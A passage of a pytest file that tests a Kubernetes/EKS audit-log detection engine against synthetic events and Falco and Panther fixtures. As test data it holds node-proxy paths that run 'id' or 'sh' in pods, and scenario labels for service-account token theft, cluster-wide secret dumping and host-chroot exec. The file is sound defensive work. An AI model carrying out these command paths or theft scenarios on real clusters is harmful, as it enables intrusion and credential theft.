    resources: list[str], *, user: dict[str, Any] | None = None, query: str = "", step: float = 2.0, namespace: str = ""
) -> list[dict[str, Any]]:
    start = BASE_TIME + 300_000 + next(_clock) * 10_000
    return [
        make_event(user=user, verb="list", resource=r, namespace=namespace, query=query, at=start + i * step)
        for i, r in enumerate(resources)
    ]


def test_discovery_burst_fires_on_fifteen_resource_types_in_a_minute() -> None:
    events = lists(DISCOVERY[:15])
    finding = one(detect(*events), "EKS-141")
    assert finding.severity == MEDIUM and len(finding.evidence) == 15


@pytest.mark.parametrize(
    "events",
    [
        lists(DISCOVERY[:14]),
        lists(DISCOVERY[:15], step=10),  # 2.5 minutes
        lists(DISCOVERY[:15], query="resourceVersion=0", user=sa("argocd", "argocd-application-controller")),
        lists(["pods"] * 20),  # one type, many namespaces
        lists(DISCOVERY[:15], user=NODE),
    ],
)
def test_discovery_burst_negatives(events: list[dict[str, Any]]) -> None:
    assert not of(detect(*events), "EKS-141")


def denials(
    count: int, *, distinct: bool = True, user: dict[str, Any] | None = None, code: int = 403, step: float = 30.0
) -> list[dict[str, Any]]:
    start = BASE_TIME + 400_000 + next(_clock) * 10_000
    return [
        make_event(
            user=user,
            verb="list",
            resource=DISCOVERY[i % len(DISCOVERY)] if distinct else "pods",
            namespace="payments",
            code=code,
            at=start + i * step,
        )
        for i in range(count)
    ]


def test_repeated_denials_fire_at_ten_distinct_requests() -> None:
    finding = one(detect(*denials(10, user=sa("kube-system", "coredns"))), "EKS-142")
    assert finding.severity == MEDIUM and finding.count == 10


@pytest.mark.parametrize(
    "events",
    [
        denials(9),
        denials(40, distinct=False, user=sa("shop", "web")),  # a controller retrying one missing permission
        denials(12, user=ANON),  # internet background noise
        denials(12, code=404),
        denials(12, step=400),  # 80 minutes
    ],
)
def test_repeated_denials_negatives(events: list[dict[str, Any]]) -> None:
    assert not of(detect(*events), "EKS-142")


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        (
            make_event(
                user=sa("shop", "web", pod="web-1"), verb="create", resource="pods", namespace="kube-system", code=403
            ),
            MEDIUM,
        ),
        (make_event(verb="create", resource="deployments", api_group="apps", namespace="payments", code=403), LOW),
        (
            make_event(
                verb="create",
                resource="clusterrolebindings",
                api_group="rbac.authorization.k8s.io",
                code=403,
                decision="allow",
                message='clusterrolebindings "x" is forbidden: user "alice" (groups=[...]) is '
                "attempting to grant RBAC permissions not currently held",
            ),
            MEDIUM,
        ),
        (make_event(verb="get", resource="pods", namespace="payments", name="a", code=403), None),
        (make_event(verb="create", resource="pods", namespace="payments", code=201), None),
    ],
)
def test_forbidden_workload_or_rbac_write(event: dict[str, Any], expected: Severity | None) -> None:
    assert severity_of(event, "EKS-143") == expected


# --- #40 threat list, #45 nodes/proxy, #48 system:masters ---------------------------------------------------------


def test_threat_list_is_empty_by_default() -> None:
    assert not NO_NETWORKS.threat
    assert not of(detect(make_event(ip="203.0.113.66")), "EKS-150")


def test_threat_listed_source_ip() -> None:
    networks = OperatorNetworks.of(threat=["203.0.113.0/24", "198.51.100.7", "bogus"])
    allowed = make_event(ip="203.0.113.66", verb="get", resource="secrets", namespace="shop", name="db")
    denied = make_event(ip="198.51.100.7", verb="list", resource="secrets", code=403)
    elsewhere = make_event(ip="192.0.2.1")
    findings = of(detect(allowed, denied, elsewhere, networks=networks), "EKS-150")
    assert sorted((f.severity, f.evidence[0]) for f in findings) == sorted(
        [(HIGH, allowed["auditID"]), (MEDIUM, denied["auditID"])]
    )


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/run/shop/web-1/web?cmd=id", HIGH),
        ("/exec/shop/web-1/web?command=sh", HIGH),
        ("/pods", MEDIUM),
        ("/configz", MEDIUM),
        ("/metrics/cadvisor", None),
        ("/stats/summary", None),
        ("/healthz", None),
    ],
)
def test_node_proxy(path: str, expected: Severity | None) -> None:
    event = make_event(
        verb="create" if expected == HIGH else "get",
        resource="nodes",
        name=NODE_NAME,
        subresource="proxy",
        uri=f"/api/v1/nodes/{NODE_NAME}/proxy{path}",
    )
    assert severity_of(event, "EKS-160") == expected


def test_system_masters_by_a_person_is_one_low_finding_per_window() -> None:
    events = [
        make_event(user=ADMIN_MASTERS, verb="get", resource="pods", namespace="shop", name=f"p{i}") for i in range(4)
    ]
    finding = one(detect(*events), "EKS-170")
    assert finding.severity == LOW and finding.count == 4 and "system:masters" in finding.description


@pytest.mark.parametrize(
    "user",
    [
        SSO,
        dict(sa("shop", "web"), groups=["system:masters"]),
        {"username": "system:apiserver", "groups": ["system:masters"]},
    ],
)
def test_system_masters_negatives(user: dict[str, Any]) -> None:
    assert severity_of(make_event(user=user), "EKS-170") is None


# --- robustness: untrusted bodies never raise -------------------------------------------------------------------

GARBAGE = [
    None,
    [],
    "text",
    7,
    {"spec": []},
    {"spec": {"usages": "x", "request": 5}},
    {"data": ["a"]},
    {"data": {"k": ["v"], 3: "x"}},
    {"metadata": "x", "spec": {"expirationSeconds": "long"}},
    {"status": {"conditions": "Approved"}},
    {"kind": "ConfigMap", "data": {"password": 5}},
]


@pytest.mark.parametrize("body", GARBAGE)
def test_predicates_survive_malformed_bodies(body: Any) -> None:
    events = [
        make_event(verb="create", resource="configmaps", namespace="shop", request=body, response=body),
        make_event(verb="create", resource="secrets", namespace="shop", request=body),
        make_event(verb="create", resource="certificatesigningrequests", request=body),
        make_event(
            verb="update", resource="certificatesigningrequests", name="c", subresource="approval", request=body
        ),
        make_event(
            verb="create", resource="serviceaccounts", namespace="shop", name="a", subresource="token", request=body
        ),
        exec_event(["sh"], request=body),
        make_event(user=ANON, resource="", uri="%%%/??&&==", verb="get"),
        make_event(verb="get", resource="nodes", name="n", subresource="proxy", uri="proxy"),
    ]
    detect(*events, rules=access.RULES + tampering.RULES)  # asserts the engine recorded no rule errors


# --- real fixtures: Falco ----------------------------------------------------------------------------------------

FALCO = DATASETS / "falco-k8s-audit"


def falco_findings(name: str) -> tuple[list[str], list[Finding]]:
    lines = [line for line in (FALCO / name).read_bytes().splitlines() if line.strip()]
    ids = [json.loads(line).get("auditID", "") for line in lines]
    return ids, detect(*lines, rules=access.RULES + tampering.RULES, log_time_ms=1_540_000_000_000)


@pytest.mark.parametrize(
    ("name", "rule_id", "severity"),
    [
        ("anonymous_creates_namespace_foo.json", "EKS-101", CRITICAL),  # Falco: Anonymous Request Allowed
        ("exec_pod.json", "EKS-110", LOW),  # Falco: Attach/Exec Pod
        ("create_configmap_sensitive_values.json", "EKS-127", MEDIUM),  # Falco: Configmap With Private Credentials
    ],
)
def test_falco_expected_detections(name: str, rule_id: str, severity: Severity) -> None:
    ids, findings = falco_findings(name)
    cited = {e for f in of(findings, rule_id) for e in f.evidence}
    assert cited == set(ids), f"{name}: {rule_id} cites {len(cited)}/{len(ids)} events"
    assert all(f.severity == severity for f in of(findings, rule_id))


@pytest.mark.parametrize(
    "name",
    sorted(
        line.split("\t")[0]
        for line in (FALCO / "MANIFEST.tsv").read_text().splitlines()[1:]
        if line.split("\t")[1].startswith("none")
    )
    if (FALCO / "MANIFEST.tsv").exists()
    else [],
)
def test_falco_negatives_raise_nothing_medium(name: str) -> None:
    _, findings = falco_findings(name)
    assert not [f for f in findings if f.severity >= MEDIUM]


# --- real fixtures: Panther ---------------------------------------------------------------------------------------

PANTHER = DATASETS / "panther-eks"
PANTHER_RULES = {  # Panther rule → the eksight rules covering the same idea
    "Amazon.EKS.AnonymousAPIAccess": {"EKS-100", "EKS-101"},
    "Kubernetes.API.AnonymousAccess": {"EKS-100", "EKS-101"},
    "Amazon.EKS.Audit.Multiple403": {"EKS-142"},
    "Kubernetes.API.Multiple403.PublicIP": {"EKS-142"},
    "Amazon.EKS.Audit.SystemNamespaceFromPublicIP": {"EKS-131"},
    "Kubernetes.System.Principal.PublicIP": {"EKS-131"},
    "Kubernetes.API.IOC.Activity": {"EKS-150"},
    "Kubernetes.ClientCertificate.Created": {"EKS-133"},
    "Kubernetes.Pod.Exec": {"EKS-110", "EKS-111", "EKS-112", "EKS-113"},
    "Kubernetes.Kubectl.CP.Operation": {"EKS-112", "EKS-113"},
    "Kubernetes.Pod.StealServiceAccountToken": {"EKS-112"},
    "Kubernetes.Secret.AccessDenied": {"EKS-124"},
    "Kubernetes.BulkSecretAccess": {"EKS-123"},
    "Kubernetes.Secrets.DumpAllNamespaces": {"EKS-120"},
    "Kubernetes.ServiceAccount.TokenCreated": {"EKS-130"},
}
THRESHOLD_COMPANIONS = {"EKS-142": 9, "EKS-124": 19, "EKS-123": 14}


def panther_cases() -> list[tuple[dict[str, str], bytes]]:
    if not PANTHER.exists():
        return []
    labels = list(csv.DictReader((PANTHER / "labels.tsv").open(), delimiter="\t"))
    lines = (PANTHER / "events.jsonl").read_bytes().splitlines()
    assert len(labels) == len(lines)
    return [(label, line) for label, line in zip(labels, lines, strict=True) if label["panther_rule"] in PANTHER_RULES]


def companions(event: dict[str, Any], count: int) -> list[bytes]:
    """The rest of a burst: copies of the labelled event with their own auditIDs and objects, so the threshold
    is reached by the identity of the labelled event (Panther's labels are per event)."""
    out = []
    for i in range(count):
        copy = json.loads(json.dumps(event))
        copy["auditID"] = str(uuid.uuid4())
        ref = copy.setdefault("objectRef", {})
        ref["name"] = f"{ref.get('name') or 'object'}-{i}"
        out.append(json.dumps(copy).encode())
    return out


PANTHER_CASES = panther_cases()


@pytest.mark.parametrize(
    ("label", "line"),
    [c for c in PANTHER_CASES if c[0]["expected"] == "true"],
    ids=lambda v: v["test_name"] if isinstance(v, dict) else "",
)
def test_panther_positive_is_detected(label: dict[str, str], line: bytes) -> None:
    ours = PANTHER_RULES[label["panther_rule"]]
    event = json.loads(line)
    burst = [companions(event, THRESHOLD_COMPANIONS[r]) for r in ours if r in THRESHOLD_COMPANIONS]
    findings = detect(
        line, *itertools.chain.from_iterable(burst), rules=access.RULES + tampering.RULES, log_time_ms=1_700_000_000_000
    )
    cited = [f for f in findings if f.rule_id in ours and label["auditID"] in f.evidence]
    assert cited, f"{label['test_name']}: none of {sorted(ours)} cites {label['auditID']}"


@pytest.mark.parametrize(
    ("label", "line"),
    [c for c in PANTHER_CASES if c[0]["expected"] == "false"],
    ids=lambda v: v["test_name"] if isinstance(v, dict) else "",
)
def test_panther_negative_raises_nothing_medium(label: dict[str, str], line: bytes) -> None:
    findings = detect(line, rules=access.RULES + tampering.RULES, log_time_ms=1_700_000_000_000)
    loud = [(f.rule_id, f.severity.name) for f in findings if f.severity >= MEDIUM]
    assert not loud, f"{label['test_name']}: {loud}"


def test_panther_fixture_coverage() -> None:
    """Every mapped Panther rule has cases here, so the two tests above cannot silently run empty."""
    if not PANTHER.exists():
        pytest.skip("panther-eks dataset not present")
    seen = Counter(label["panther_rule"] for label, _ in PANTHER_CASES)
    assert set(seen) == set(PANTHER_RULES)


# --- the dev-scenarios cluster -------------------------------------------------------------------------------------

DEV = DATASETS / "dev-scenarios"
# Signature scenarios these rules are meant to catch (the others are RBAC/workload ideas or behavioural).
DEV_EXPECTED = {
    "S03": "anonymous_access_allowed (EKS-100)",
    "S04": "exec reading the service-account token (EKS-112)",
    "S05": "chroot /host exec into a kube-system pod (EKS-112)",
    "S07": "cluster-wide secret enumeration (EKS-120)",
}
DEV_BENIGN_MEDIUM_BUDGET = 3  # measured: 3, all EKS-111 (a platform admin's `sh` into EBS CSI controller pods)


@pytest.fixture(scope="module")
def dev_run() -> tuple[dict[str, Any], list[Finding], RuleEngine]:
    if not (DEV / "audit.jsonl.gz").exists():
        pytest.skip("dev-scenarios dataset not present")
    labels = json.loads((DEV / "labels.json").read_text())
    context = SourceContext(cluster=labels["cluster"], account=labels["account"], region=labels["region"])
    engine = RuleEngine(access.RULES + tampering.RULES)
    detector = Detector(engine)
    with gzip.open(DEV / "audit.jsonl.gz") as stream:
        detector.run(RawEvent(line, context, "dev", i, None) for i, line in enumerate(stream))
    return labels, detector.findings(), engine


def test_dev_scenarios_detected(dev_run: tuple[dict[str, Any], list[Finding], RuleEngine]) -> None:
    labels, findings, engine = dev_run
    assert not engine.errors
    scenario_of = {a: s["id"] for s in labels["scenarios"] for a in s["auditIDs"]}
    caught = {scenario_of[e] for f in findings if f.severity >= MEDIUM for e in f.evidence if e in scenario_of}
    missing = {s: why for s, why in DEV_EXPECTED.items() if s not in caught}
    assert not missing, f"missed: {missing}"


def test_dev_benign_medium_findings(dev_run: tuple[dict[str, Any], list[Finding], RuleEngine]) -> None:
    labels, findings, _ = dev_run
    attack = {a for s in labels["scenarios"] for a in s["auditIDs"]}
    benign = [f for f in findings if f.severity >= MEDIUM and not set(f.evidence) & attack]
    by_rule = Counter(f.rule_id for f in benign)
    print(f"\ndev-scenarios: {len(benign)} MEDIUM+ findings citing only benign events: {dict(by_rule)}")
    assert len(benign) <= DEV_BENIGN_MEDIUM_BUDGET, [(f.rule_id, f.description[-200:]) for f in benign]
    assert set(by_rule) <= {"EKS-111"}


def test_a_forbidden_write_quotes_the_refusal_without_naming_the_requester_again() -> None:
    refusal = (
        'deployments "api" is forbidden: User "arn:aws-test:sts::111122223333:assumed-role/AWSReservedSSO_'
        'SRE-ReadOnly_9b6003e82567a22a/carla.okafor@example.dev" cannot patch resource "deployments" in API '
        'group "apps" in the namespace "argocd"'
    )
    event = make_event(verb="patch", resource="deployments", api_group="apps", namespace="argocd", code=403)
    event["responseStatus"]["message"] = refusal
    (finding,) = of(detect(event), "EKS-143")
    assert 'is forbidden: the caller cannot patch resource "deployments"' in finding.description
    assert 'carla.okafor@example.dev"' not in finding.description
